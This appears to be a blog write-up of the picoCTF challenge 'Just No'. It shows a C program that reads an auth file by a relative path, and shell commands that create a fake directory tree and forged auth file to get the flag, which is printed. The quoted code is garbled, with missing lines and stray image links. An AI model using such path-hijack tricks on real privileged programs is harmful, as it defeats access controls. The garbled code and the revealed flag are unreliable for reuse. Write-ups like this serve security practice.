[picoCTF] Just No

picoCTF was long over, but I decided to work on some of the challenges just for practice anyways.  Just No was a quick and easy challenge, but I decided to write about it because the flaw is all too real.


#include <stdio.h>
#include<stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/types.h>
int main(int argc, char **argv){
 FILE* authf = fopen("../../problems/f934d9ca116fb6e3e89cc85baaca028c/auth","r"); //acce
ss auth file in ../../../problems/f934d9ca116fb6e3e89cc85baaca028c
 if(authf == NULL){
 printf("could not find auth file in ../../problems/f934d9ca116fb6e3e89cc85baaca028c/\n");
 return 0;
 char auth[8];
 FILE* flagf;
 flagf = fopen("/problems/f934d9ca116fb6e3e89cc85baaca028c/flag","r");
 char flag[64];
 printf("Oh. Well the auth file doesn't say no anymore so... Here's the flag: %s",flag
 printf("auth file says no. So no. Just... no.\n");
 return 0;

Ok.  So it’s checking for the contents of the “auth” file which we don’t have write access to.  However, we should notice that it’s using the relative path and not the absolute path.  So all we have to do is go to our home directory and create our own auth file.

cd ~
mkdir tmp1; cd tmp1; mkdir tmp2; cd tmp2
mkdir ../../problems; mkdir../../problems/f934d9ca116fb6e3e89cc85baaca028c
echo hi >../../problems/f934d9ca116fb6e3e89cc85baaca028c/auth


Oh. Well the auth file doesn’t say no anymore so… Here’s the flag: 06265e758df65642853687376dab0ad6

Leave a Reply

Youremail address will not be published. Required fields are marked *